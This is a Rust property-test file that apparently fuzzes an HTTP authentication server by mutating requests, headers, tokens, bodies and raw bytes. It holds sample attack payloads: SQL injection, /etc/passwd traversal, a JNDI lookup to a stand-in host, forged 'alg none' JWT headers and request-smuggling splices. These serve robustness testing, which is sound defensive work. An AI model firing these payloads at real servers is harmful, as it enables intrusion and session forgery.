//! What is done to a valid request: to its parts, to the texts in them, to its bytes.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use percent_encoding::{NON_ALPHANUMERIC, percent_encode};
use proptest::prelude::*;
use proptest::sample::{Index, select};

use crate::request::Request;

/// Texts that have broken other servers.
const HOSTILE: [&str; 26] = [
    "",
    "\u{0}",
    "null",
    "undefined",
    "[object Object]",
    "-1",
    "99999999999999999999999999",
    "1e400",
    "NaN",
    "'",
    "' OR '1'='1",
    "\"; DROP TABLE sessions; --",
    "../../../../etc/passwd",
    "%00",
    "%c0%ae%c0%ae/",
    "%",
    "%zz",
    "\\u0000",
    "\\ud800",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "a=b; sAccessToken=c; sAccessToken=d",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1In0.",
    "Bearer Bearer Bearer",
    "é✓\u{202e}\u{feff}",
    "=?utf-8?B?YQ==?=",
];

/// Headers that decide about something.
const NAMES: [&str; 23] = [
    "authorization",
    "cookie",
    "anti-csrf",
    "rid",
    "fdi-version",
    "st-auth-mode",
    "origin",
    "content-type",
    "content-length",
    "content-encoding",
    "transfer-encoding",
    "host",
    "x-forwarded-host",
    "x-http-method-override",
    "access-control-request-method",
    "sec-fetch-site",
    "expect",
    "upgrade",
    "connection",
    "accept-encoding",
    "x-request-id",
    "traceparent",
    "tracestate",
];

/// Values that a header of that kind takes, or nearly.
const VALUES: [&str; 18] = [
    "application/json; charset=latin1",
    "application/json; charset=\"UTF-16\"",
    "application/x-www-form-urlencoded",
    "text/plain",
    "multipart/form-data; boundary=",
    "gzip",
    "deflate, gzip",
    "br",
    "chunked",
    "gzip, chunked",
    "0",
    "5",
    "100000000",
    "18446744073709551616",
    "+7",
    "100-continue",
    "cookie",
    "https://evil.test",
];

const METHODS: [&str; 9] = [
    "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "BREW",
];

/// One change.
#[derive(Debug, Clone)]
pub(crate) enum Mutation {
    // Of the parts.
    Method(&'static str),
    Path(PathChange),
    DropHeader(Index),
    RepeatHeader(Index),
    SwapHeaders(Index, Index),
    SetHeader(&'static str, String),
    LongHeader(&'static str, usize),
    ManyHeaders(usize),
    SplitCookies,
    RepeatCookies,
    // Of the texts.
    Token(Index, TokenChange),
    Body(BodyChange),
    // Of the bytes.
    Bytes(ByteChange),
}

#[derive(Debug, Clone)]
pub(crate) enum PathChange {
    Append(String),
    Prefix(&'static str),
    Uppercase,
    Encode(Index),
}

#[derive(Debug, Clone)]
pub(crate) enum TokenChange {
    Cut(Index),
    Repeat,
    Pad,
    Uppercase,
    Quote,
    Encode(Index),
    Character(Index, char),
    /// Of a JWT: another header over the same claims and signature.
    Header(String),
    /// Of a JWT: a change inside of the JSON of a part.
    Inside(Index, Index, u8),
}

#[derive(Debug, Clone)]
pub(crate) enum BodyChange {
    Nest(usize),
    Wrap(String),
    RepeatKey(String),
    Number(&'static str),
    Mark,
    Utf16,
    Escape(Index),
    Latin1,
    Chunked,
    Form,
    Large(usize),
}

#[derive(Debug, Clone)]
pub(crate) enum ByteChange {
    Flip(Index, u8),
    Set(Index, u8),
    Insert(Index, Vec<u8>),
    Delete(Index, usize),
    Truncate(Index),
    Repeat(Index, usize),
    Move(Index, usize, Index),
    /// The end of another request behind the beginning of this one.
    Splice(Index, Index),
    /// Another request behind this one.
    Pipeline,
}

fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => select(&HOSTILE[..]).prop_map(str::to_owned),
        1 => "[ -~]{0,40}",
        1 => any::<String>(),
    ]
}

fn value() -> impl Strategy<Value = String> {
    prop_oneof![2 => select(&VALUES[..]).prop_map(str::to_owned), 1 => hostile()]
}

fn path() -> impl Strategy<Value = PathChange> {
    prop_oneof![
        hostile().prop_map(PathChange::Append),
        select(
            &[
                "/",
                "//",
                "/./",
                "/../",
                "/public",
                "/t1",
                "/%61uth",
                "http://evil.test",
                "*",
                "?"
            ][..]
        )
        .prop_map(PathChange::Prefix),
        Just(PathChange::Uppercase),
        any::<Index>().prop_map(PathChange::Encode),
    ]
}

fn token() -> impl Strategy<Value = TokenChange> {
    let header = select(
        &[
            r#"{"alg":"none","typ":"JWT","version":"5","kid":"d-1"}"#,
            r#"{"alg":"HS256","typ":"JWT","version":"5","kid":"../../dev/null"}"#,
            r#"{"alg":"ES256","typ":"JWT","version":"5","kid":null}"#,
            r#"{"alg":"ES256","alg":"none","typ":"JWT","version":"5","kid":"d-1","kid":"d-2"}"#,
            r#"{"alg":"ES256","typ":"JWT","version":"5","kid":"d-1","crit":["x"],"x":1}"#,
            "[]",
            "{",
        ][..],
    );
    prop_oneof![
        any::<Index>().prop_map(TokenChange::Cut),
        Just(TokenChange::Repeat),
        Just(TokenChange::Pad),
        Just(TokenChange::Uppercase),
        Just(TokenChange::Quote),
        any::<Index>().prop_map(TokenChange::Encode),
        (any::<Index>(), any::<char>()).prop_map(|(at, by)| TokenChange::Character(at, by)),
        header.prop_map(|header| TokenChange::Header(header.to_owned())),
        (any::<Index>(), any::<Index>(), any::<u8>())
            .prop_map(|(part, at, by)| TokenChange::Inside(part, at, by)),
    ]
}

fn body() -> impl Strategy<Value = BodyChange> {
    prop_oneof![
        (1_usize..20_000).prop_map(BodyChange::Nest),
        hostile().prop_map(BodyChange::Wrap),
        hostile().prop_map(BodyChange::RepeatKey),
        select(
            &[
                "-0",
                "1e400",
                "-1e-400",
                "99999999999999999999999999",
                "0x10",
                "1.0",
                "NaN"
            ][..]
        )
        .prop_map(BodyChange::Number),
        Just(BodyChange::Mark),
        Just(BodyChange::Utf16),
        any::<Index>().prop_map(BodyChange::Escape),
        Just(BodyChange::Latin1),
        Just(BodyChange::Chunked),
        Just(BodyChange::Form),
        (1_usize..200_000).prop_map(BodyChange::Large),
    ]
}

fn bytes() -> impl Strategy<Value = ByteChange> {
    let at = any::<Index>;
    prop_oneof![
        3 => (at(), 0_u8..8).prop_map(|(at, bit)| ByteChange::Flip(at, bit)),
        3 => (at(), any::<u8>()).prop_map(|(at, by)| ByteChange::Set(at, by)),
        2 => (at(), prop::collection::vec(any::<u8>(), 1..16)).prop_map(|(at, by)| ByteChange::Insert(at, by)),
        2 => (at(), 1_usize..40).prop_map(|(at, length)| ByteChange::Delete(at, length)),
        1 => at().prop_map(ByteChange::Truncate),
        2 => (at(), 1_usize..400).prop_map(|(at, length)| ByteChange::Repeat(at, length)),
        2 => (at(), 1_usize..100, at()).prop_map(|(from, length, to)| ByteChange::Move(from, length, to)),
        2 => (at(), at()).prop_map(|(end, start)| ByteChange::Splice(end, start)),
        1 => Just(ByteChange::Pipeline),
    ]
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let index = any::<Index>;
    prop_oneof![
        1 => select(&METHODS[..]).prop_map(Mutation::Method),
        1 => path().prop_map(Mutation::Path),
        1 => index().prop_map(Mutation::DropHeader),
        1 => index().prop_map(Mutation::RepeatHeader),
        1 => (index(), index()).prop_map(|(one, two)| Mutation::SwapHeaders(one, two)),
        4 => (select(&NAMES[..]), value()).prop_map(|(name, value)| Mutation::SetHeader(name, value)),
        1 => (select(&NAMES[..]), 1_usize..100_000).prop_map(|(name, length)| Mutation::LongHeader(name, length)),
        1 => (1_usize..200).prop_map(Mutation::ManyHeaders),
        1 => Just(Mutation::SplitCookies),
        1 => Just(Mutation::RepeatCookies),
        5 => (index(), token()).prop_map(|(which, change)| Mutation::Token(which, change)),
        4 => body().prop_map(Mutation::Body),
        7 => bytes().prop_map(Mutation::Bytes),
    ]
}

/// One to four changes.
pub(crate) fn mutations() -> impl Strategy<Value = Vec<Mutation>> {
    prop::collection::vec(mutation(), 1..=4)
}

/// The request as it travels after all changes: first those of its parts, then those of its bytes.
/// `other` is a valid request of another kind.
pub(crate) fn apply(mutations: &[Mutation], request: &Request, other: &[u8]) -> Vec<u8> {
    let mut request = request.clone();
    for mutation in mutations {
        of_parts(mutation, &mut request);
    }
    let mut bytes = request.bytes();
    for mutation in mutations {
        if let Mutation::Bytes(change) = mutation {
            of_bytes(change, &mut bytes, other);
        }
    }
    bytes
}

fn of_parts(mutation: &Mutation, request: &mut Request) {
    let headers = &mut request.headers;
    match mutation {
        Mutation::Method(method) => {
            let path = request.line.split_once(' ').map_or("", |(_, path)| path);
            request.line = format!("{method} {path}");
        }
        Mutation::Path(change) => {
            let (method, path) = request.line.split_once(' ').unwrap_or(("GET", "/"));
            let path = match change {
                PathChange::Append(text) => format!("{path}{text}"),
                PathChange::Prefix(text) => format!("{text}{path}"),
                PathChange::Uppercase => path.to_uppercase(),
                PathChange::Encode(at) => encoded(path, *at),
            };
            request.line = format!("{method} {path}");
        }
        Mutation::DropHeader(which) => {
            if !headers.is_empty() {
                headers.remove(which.index(headers.len()));
            }
        }
        Mutation::RepeatHeader(which) => {
            if !headers.is_empty() {
                headers.push(headers[which.index(headers.len())].clone());
            }
        }
        Mutation::SwapHeaders(one, two) => {
            if !headers.is_empty() {
                let (one, two) = (one.index(headers.len()), two.index(headers.len()));
                let value = headers[one].1.clone();
                headers[one].1 = std::mem::replace(&mut headers[two].1, value);
            }
        }
        Mutation::SetHeader(name, value) => {
            headers.retain(|(known, _)| known != name);
            request.set(name, value.as_bytes());
        }
        Mutation::LongHeader(name, length) => request.set(name, vec![b'a'; *length]),
        Mutation::ManyHeaders(count) => {
            for number in 0..*count {
                request.set(&format!("x-{number}"), "a");
            }
        }
        Mutation::SplitCookies => {
            for (name, value) in headers.iter_mut() {
                if name == "cookie" {
                    *value = String::from_utf8_lossy(value)
                        .replace("; ", "\r\ncookie: ")
                        .into();
                }
            }
        }
        Mutation::RepeatCookies => {
            for (name, value) in headers.iter_mut() {
                if name == "cookie" {
                    *value = [value.as_slice(), b"; ", value].concat();
                }
            }
        }
        Mutation::Token(which, change) => of_token(*which, change, request),
        Mutation::Body(change) => of_body(change, request),
        Mutation::Bytes(_) => {}
    }
}

/// Changes a token where there is one: the last word of `Authorization`, a cookie, `anti-csrf`.
fn of_token(which: Index, change: &TokenChange, request: &mut Request) {
    let carries = |name: &str| ["authorization", "cookie", "anti-csrf"].contains(&name);
    let mut places: Vec<_> = request
        .headers
        .iter_mut()
        .filter(|(name, _)| carries(name))
        .collect();
    if places.is_empty() {
        return;
    }
    let place = which.index(places.len());
    let value = &mut places[place].1;
    let text = String::from_utf8_lossy(value).into_owned();
    let start = text.rfind([' ', '=']).map_or(0, |at| at + 1);
    let start = if text.contains("=dark") && text.ends_with("dark") {
        text.find('=').map_or(0, |at| at + 1)
    } else {
        start
    };
    let end = text[start..].find(';').map_or(text.len(), |at| start + at);
    let token = changed(&text[start..end], change);
    *value = format!("{}{token}{}", &text[..start], &text[end..]).into_bytes();
}

fn changed(token: &str, change: &TokenChange) -> String {
    let characters: Vec<char> = token.chars().collect();
    if characters.is_empty() {
        return "x".to_owned();
    }
    let mut parts: Vec<String> = token.split('.').map(str::to_owned).collect();
    match change {
        TokenChange::Cut(at) => characters[..at.index(characters.len())].iter().collect(),
        TokenChange::Repeat => format!("{token}{token}"),
        TokenChange::Pad => format!("{token}=="),
        TokenChange::Uppercase => token.to_uppercase(),
        TokenChange::Quote => format!("\"{token}\""),
        TokenChange::Encode(at) => encoded(token, *at),
        TokenChange::Character(at, by) => {
            let mut characters = characters;
            let at = at.index(characters.len());
            characters[at] = *by;
            characters.into_iter().collect()
        }
        TokenChange::Header(header) => {
            parts[0] = URL_SAFE_NO_PAD.encode(header);
            parts.join(".")
        }
        TokenChange::Inside(part, at, by) => {
            let part = part.index(parts.len());
            let mut inside = URL_SAFE_NO_PAD.decode(&parts[part]).unwrap_or_default();
            if !inside.is_empty() {
                let at = at.index(inside.len());
                inside[at] = *by;
            }
            parts[part] = URL_SAFE_NO_PAD.encode(inside);
            parts.join(".")
        }
    }
}

fn of_body(change: &BodyChange, request: &mut Request) {
    let body = &mut request.body;
    let text = String::from_utf8_lossy(body).into_owned();
    *body = match change {
        BodyChange::Nest(depth) => format!("{}{text}{}", "[".repeat(*depth), "]".repeat(*depth)),
        BodyChange::Wrap(key) => format!("{{{key:?}:{text}}}"),
        BodyChange::RepeatKey(value) => {
            let end = text.strip_suffix('}').unwrap_or(&text);
            format!("{end},\"formFields\":{value:?},\"token\":{value:?}}}")
        }
        BodyChange::Number(number) => text.replacen(":\"", &format!(":{number},\"x\":\""), 1),
        BodyChange::Mark => format!("\u{feff}{text}"),
        BodyChange::Utf16 => {
            let units = text.encode_utf16().flat_map(u16::to_le_bytes);
            *body = [0xff, 0xfe].into_iter().chain(units).collect();
            return;
        }
        BodyChange::Escape(at) => {
            let places: Vec<_> = text
                .char_indices()
                .filter(|(_, c)| c.is_alphanumeric())
                .collect();
            if places.is_empty() {
                return;
            }
            let (place, character) = places[at.index(places.len())];
            let escaped = format!("\\u{:04x}", u32::from(character) & 0xffff);
            format!(
                "{}{escaped}{}",
                &text[..place],
                &text[place + character.len_utf8()..]
            )
        }
        BodyChange::Latin1 => {
            *body = text.bytes().chain([0xe9, 0xff]).collect();
            return;
        }
        BodyChange::Chunked => {
            let chunked = format!("{:x}\r\n{text}\r\n0\r\n\r\n", text.len());
            request.headers.retain(|(name, _)| name != "content-length");
            request.body = chunked.into_bytes();
            request.set("transfer-encoding", "chunked");
            return;
        }
        BodyChange::Form => percent_encode(text.as_bytes(), NON_ALPHANUMERIC).to_string(),
        BodyChange::Large(length) => format!("{text}{}", " ".repeat(*length)),
    }
    .into_bytes();
}

fn of_bytes(change: &ByteChange, bytes: &mut Vec<u8>, other: &[u8]) {
    if bytes.is_empty() {
        return;
    }
    let length = bytes.len();
    let range = |at: &Index, count: usize| {
        let start = at.index(length);
        start..length.min(start + count)
    };
    match change {
        ByteChange::Flip(at, bit) => bytes[at.index(length)] ^= 1 << bit,
        ByteChange::Set(at, by) => bytes[at.index(length)] = *by,
        ByteChange::Insert(at, by) => {
            let at = at.index(length);
            bytes.splice(at..at, by.iter().copied());
        }
        ByteChange::Delete(at, count) => {
            bytes.drain(range(at, *count));
        }
        ByteChange::Truncate(at) => bytes.truncate(at.index(length)),
        ByteChange::Repeat(at, count) => {
            let part = bytes[range(at, *count)].to_vec();
            let at = at.index(length);
            bytes.splice(at..at, part);
        }
        ByteChange::Move(from, count, to) => {
            let part: Vec<u8> = bytes.drain(range(from, *count)).collect();
            let at = to.index(bytes.len() + 1);
            bytes.splice(at..at, part);
        }
        ByteChange::Splice(end, start) => {
            bytes.truncate(end.index(length));
            bytes.extend_from_slice(&other[start.index(other.len())..]);
        }
        ByteChange::Pipeline => bytes.extend_from_slice(other),
    }
}

/// A text with one of its characters written as `%xx`.
fn encoded(text: &str, at: Index) -> String {
    let mut bytes = text.as_bytes().to_vec();
    let at = at.index(bytes.len().max(1));
    if at < bytes.len() {
        let code = format!("%{:02X}", bytes[at]).into_bytes();
        bytes.splice(at..=at, code);
    }
    String::from_utf8_lossy(&bytes).into_owned()
}
